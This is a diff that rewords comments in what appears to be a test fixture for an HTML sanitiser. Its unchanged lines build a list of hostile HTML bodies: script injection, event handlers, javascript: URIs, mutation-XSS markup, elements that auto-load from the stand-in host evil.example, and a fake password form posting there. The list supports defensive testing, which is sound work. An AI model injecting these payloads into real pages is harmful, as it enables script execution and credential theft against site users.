@@ -1,6 +1,6 @@
 /**
- * HTML that tries to run script, to load from another host or to imitate the portal. Shown unsanitised, each would set
- * `window.ran` or call `evil.example`.
+ * Bodies that try to run code, to load from elsewhere or to imitate the portal. Unsanitised, each would set
+ * `window.ran` or request something from `evil.example`.
  */
 const RUN = 'window.ran=1';
 const EVIL = 'https://evil.example';
@@ -32,7 +32,7 @@ const EVENTS = [
   ],
 ];
 
-/** Event handlers in many spellings. */
+/** Event handlers in all spellings. */
 const handlers = ELEMENTS.flatMap((element, index) =>
   EVENTS.filter((_, place) => (place + index) % 2 === 0).map(
     (event) => `<${element} src=x tabindex=0 autofocus open ${event}="${RUN}">text</${element}>`,
@@ -53,7 +53,7 @@ const brokenHandlers = [
   `<p lang="&quot; onmouseover=&quot;${RUN}">text</p>`,
 ];
 
-/** Scripts and similar elements. */
+/** Scripts and elements that are parsed like scripts. */
 const scripts = [
   `<script>${RUN}</script>`,
   `<SCRIPT>${RUN}</SCRIPT>`,
@@ -83,7 +83,7 @@ const scripts = [
   `</script><script>${RUN}</script>`,
 ];
 
-/** Addresses that run script. */
+/** Addresses that run code. */
 const SCHEMES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -127,7 +127,7 @@ const addresses = SCHEMES.flatMap((address, index) =>
   HOLDERS.filter((_, place) => place === 0 || (place + index) % 2 === 0).map((hold) => hold(address)),
 );
 
-/** Elements that load on their own. */
+/** Elements that load without interaction. */
 const loads = [
   ...['img', 'video', 'audio', 'iframe', 'embed', 'source', 'track', 'input type=image'].map(
     (tag) => `<${tag} src="${EVIL}/x">`,
@@ -165,7 +165,7 @@ const loads = [
   `<html manifest="${EVIL}/x"><p>text</p></html>`,
 ];
 
-/** HTML that parsers read differently (mutation XSS). */
+/** Markup that parsers interpret differently. */
 const mutations = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
@@ -205,7 +205,7 @@ const mutations = [
   `<math>${'<mrow>'.repeat(200)}<mtext><img src=x onerror=${RUN}>`,
 ];
 
-/** Elements that imitate the portal or overwrite its names. */
+/** Elements that imitate the portal or take over its names. */
 const disguises = [
   `<form action="${EVIL}"><label>Password <input type=password name=password></label><button>Log on</button></form>`,
   `<input form=x name=password type=password>`,
@@ -239,7 +239,7 @@ const disguises = [
   `<td onclick=${RUN}>text</td>`,
 ];
 
-/** At least 300 distinct bodies. */
+/** At least three hundred, all different. */
 export const HOSTILE_HTML: readonly string[] = [
   ...new Set([
     ...handlers,
